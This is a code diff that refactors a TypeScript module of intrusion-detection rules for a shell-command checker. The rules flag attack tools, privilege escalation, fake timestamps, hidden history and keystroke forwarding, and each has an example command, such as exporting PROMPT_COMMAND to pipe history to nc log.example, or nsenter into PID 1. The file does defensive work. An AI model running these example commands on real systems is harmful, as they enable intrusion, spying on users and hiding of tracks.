@@ -2,12 +2,13 @@
 
 import { INTERPRETER_NAMES, interpreterName, SHELLS } from '../../carriers/wrappers.ts'
 import { resolvePath } from '../../line/paths.ts'
-import { type Arg, baseName, type SimpleCommand } from '../../model.ts'
+import { after, baseName, matching, said, says } from '../../model.ts'
 import { valuesOf } from '../../writes/option-values.ts'
 import { inputCode } from '../../writes/positions.ts'
-import { inPlace, matching, only, type Rule, tools, verb } from '../rule.ts'
-import { appended, overwritten } from '../targets.ts'
-import { ATTACK_TOOLS, ENTERS, fits, OPENS, PASSWORDS, RECORDS, TRUSTS } from './intrusion-tables.ts'
+import type { FormRule } from '../forms.ts'
+import { only, type Rule, setIn, tools } from '../rule.ts'
+import { changed } from '../targets.ts'
+import { ATTACK_TOOLS, ENTERS, OPENS, PASSWORDS, RECORDS, TRUSTS } from './intrusion-tables.ts'
 
 const ATTACKS: ReadonlySet<string> = new Set(ATTACK_TOOLS)
 /** Names that servers and frameworks share; the attack has options, the others have verbs. */
@@ -44,33 +45,17 @@ const ACCOUNT_LIST = /^\/etc\/(?:passwd|group)-?$/
 /** What the shell itself runs before each prompt, and that hands the typed line on. */
 const HANDS_ON = /\b(?:logger|tee|nc|ncat|socat|curl|wget|ssh|mail)\b|>>|\/dev\/(?:tcp|udp)\//
 
-const assigned = (c: SimpleCommand, name: RegExp): readonly (readonly [string, Arg])[] => [
-  ...c.assignments.filter((set) => name.test(set.name)).map((set) => [set.value.text, set.value] as const),
-  ...(/^(?:export|declare|typeset)$/.test(c.name) ? c.args : []).flatMap((arg) => {
-    const at = arg.text.indexOf('=')
-    return at > 0 && name.test(arg.text.slice(0, at)) ? [[arg.text.slice(at + 1), arg] as const] : []
-  }),
-]
-
-export const INTRUSION_RULES: readonly Rule[] = [
+export const INTRUSION_RULES: readonly (Rule | FormRule)[] = [
   {
     id: 'attack-tool',
     level: 'moderate',
     why: 'Runs a program made for breaking into machines, for hiding on them, or for using them to earn money.',
-    tools: [
-      ...ATTACK_TOOLS.flatMap((name) => [name, `${name}.sh`, `${name}.py`]),
-      ...RUNS_FILES,
-      'hping3',
-      'nping',
-    ],
+    finds: 'hping3|nping --flood|--rand-source|--rand-dest',
+    tools: [...ATTACK_TOOLS.flatMap((name) => [name, `${name}.sh`, `${name}.py`]), ...RUNS_FILES],
     when: (c, o) =>
-      /^(?:hping3|nping)$/.test(c.name)
-        ? matching(c.args, /^--(?:flood|rand-source|rand-dest)$/)
-        : ATTACKS.has(plainName(c.name))
-          ? !o.flag('help', 'version') &&
-            !(c.args.length === 1 && c.args[0]?.text === '-h') &&
-            (!HOMONYMS.test(c.name) || c.args.some(({ text }) => text[0] === '-'))
-          : o.operands.slice(0, 1).filter((arg) => ATTACKS.has(plainName(arg.text))),
+      ATTACKS.has(plainName(c.name))
+        ? !o.flag('help', 'version') && !/^-h$/.test(said(c)) && (!HOMONYMS.test(c.name) || says(c, /^-/))
+        : o.operands.slice(0, 1).filter((arg) => ATTACKS.has(plainName(arg.text))),
     example: 'bash linpeas.sh',
   },
   {
@@ -103,7 +88,7 @@ export const INTRUSION_RULES: readonly Rule[] = [
         ? only(o.flag('S', 'stdin'), /\S/.test(c.input.text ?? ''))
         : c.name === 'chpasswd'
           ? /:\S/.test(c.input.text ?? '')
-          : fits(PASSWORDS)(c),
+          : PASSWORDS.fits(c),
     example: 'sshpass -p hunter2 ssh me@host',
   },
   {
@@ -112,7 +97,7 @@ export const INTRUSION_RULES: readonly Rule[] = [
     why: 'Opens a shell from inside another program, where nothing that watches your shell sees it.',
     tools: [...CALLERS, ...OPENS.names(), 'find', 'gfind', 'cpan'],
     when: (c) => {
-      if (OPENS.of(c.name) !== undefined) return fits(OPENS)(c)
+      if (OPENS.of(c.name) !== undefined) return OPENS.fits(c)
       if (/find$/.test(c.name))
         return c.args.filter(
           (arg, i) =>
@@ -131,7 +116,7 @@ export const INTRUSION_RULES: readonly Rule[] = [
     level: 'moderate',
     why: 'Records the screen, the keys, the camera or the microphone, with whatever is secret in it.',
     tools: RECORDS.names(),
-    when: fits(RECORDS),
+    when: RECORDS.fits,
     example: 'xwd -root -out /tmp/screen.xwd',
   },
   {
@@ -139,7 +124,7 @@ export const INTRUSION_RULES: readonly Rule[] = [
     level: 'moderate',
     why: 'Trusts another certificate authority, whose owner can then read and change encrypted connections.',
     tools: TRUSTS.names(),
-    when: fits(TRUSTS),
+    when: TRUSTS.fits,
     example: 'sudo update-ca-certificates',
   },
   {
@@ -147,37 +132,33 @@ export const INTRUSION_RULES: readonly Rule[] = [
     level: 'moderate',
     why: 'Opens a shell with the rights of root or of another part of the machine.',
     tools: ENTERS.names(),
-    when: fits(ENTERS),
+    when: ENTERS.fits,
     example: 'nsenter -t 1 -m -u -i -n sh',
   },
   {
     id: 'rights-searched',
     level: 'moderate',
     why: 'Searches for files through which anybody can get the rights of root.',
-    tools: tools('find gfind getcap'),
-    when: (c, o) =>
-      c.name === 'getcap'
-        ? only(o.flag('r'), inPlace(c, o.operands, 'root', 'system'))
-        : c.args.filter(
-            (arg, i) =>
-              c.args[i - 1]?.text === '-perm' &&
-              /^[-/]?(?:0?[246]000|[ugoa,+=]*[ug]\+?=?s\S*)$/.test(arg.text),
-          ),
+    finds: 'getcap @root|system -r',
+    tools: tools('find gfind'),
+    when: ({ args }) => matching(after(args, /^-perm$/), /^[-/]?(?:0?[246]000|[ugoa,+=]*[ug]\+?=?s\S*)$/),
     example: 'find / -perm -4000',
   },
   {
     id: 'time-forged',
     level: 'moderate',
     why: 'Gives a file or the machine another time, so that records no longer tell when something happened.',
-    tools: tools('touch date hwclock timedatectl'),
-    when: (c, o) =>
-      c.name === 'touch'
-        ? valuesOf(c.args, ['r', 'reference', 't', 'd', 'date'])
-        : c.name === 'date'
-          ? valuesOf(c.args, ['s', 'set'])
-          : c.name === 'hwclock'
-            ? only(o.flag('set', 'hctosys', 's'))
-            : only(verb(o) === 'set-time' || (verb(o) === 'set-ntp' && /^(?:0|no|false)$/.test(verb(o, 1)))),
+    finds: `
+      hwclock --set|--hctosys|-s
+      timedatectl set-time
+      timedatectl set-ntp 0|no|false`,
+    tools: tools('touch date'),
+    when: ({ name, args }) =>
+      name === 'touch'
+        ? valuesOf(args, ['r', 'reference', 't', 'd', 'date'])
+        : name === 'date'
+          ? valuesOf(args, ['s', 'set'])
+          : undefined,
     example: 'touch -r /bin/ls /tmp/x',
   },
   {
@@ -186,9 +167,10 @@ export const INTRUSION_RULES: readonly Rule[] = [
     why: 'Leaves commands out of the shell’s history from now on.',
     tools: ['*'],
     when: (c) =>
-      assigned(c, /^HIST(?:CONTROL|IGNORE)$/)
-        .filter(([text]) => /ignore(?:space|both)|\*/.test(text))
-        .map(([, arg]) => arg),
+      setIn(
+        c,
+        (name, value) => /^HIST(?:CONTROL|IGNORE)$/.test(name) && /ignore(?:space|both)|\*/.test(value),
+      ),
     example: 'export HISTCONTROL=ignorespace',
   },
   {
@@ -196,10 +178,7 @@ export const INTRUSION_RULES: readonly Rule[] = [
     level: 'moderate',
     why: 'Hands every line that is typed from now on to another program or place.',
     tools: ['*'],
-    when: (c) =>
-      assigned(c, /^(?:PROMPT_COMMAND|PS0)$/)
-        .filter(([text]) => HANDS_ON.test(text))
-        .map(([, arg]) => arg),
+    when: (c) => setIn(c, (name, value) => /^(?:PROMPT_COMMAND|PS0)$/.test(name) && HANDS_ON.test(value)),
     example: `export PROMPT_COMMAND='history 1 | nc log.example 514'`,
   },
   {
@@ -241,9 +220,7 @@ export const INTRUSION_RULES: readonly Rule[] = [
           .map((it) => it.target),
       ]
       if (read.length === 0) return undefined
-      const away = [...overwritten(c, o), ...appended(c, o)].some(
-        (arg) => !/^\/(?:etc|dev)\//.test(resolvePath(arg.text, c.scope)),
-      )
+      const away = changed(c, o).some((arg) => !/^\/(?:etc|dev)\//.test(resolvePath(arg.text, c.scope)))
       return only(c.name === 'cat' || c.name === 'cp' ? away : true, read)
     },
     example: 'cp /etc/passwd /tmp/passwd',
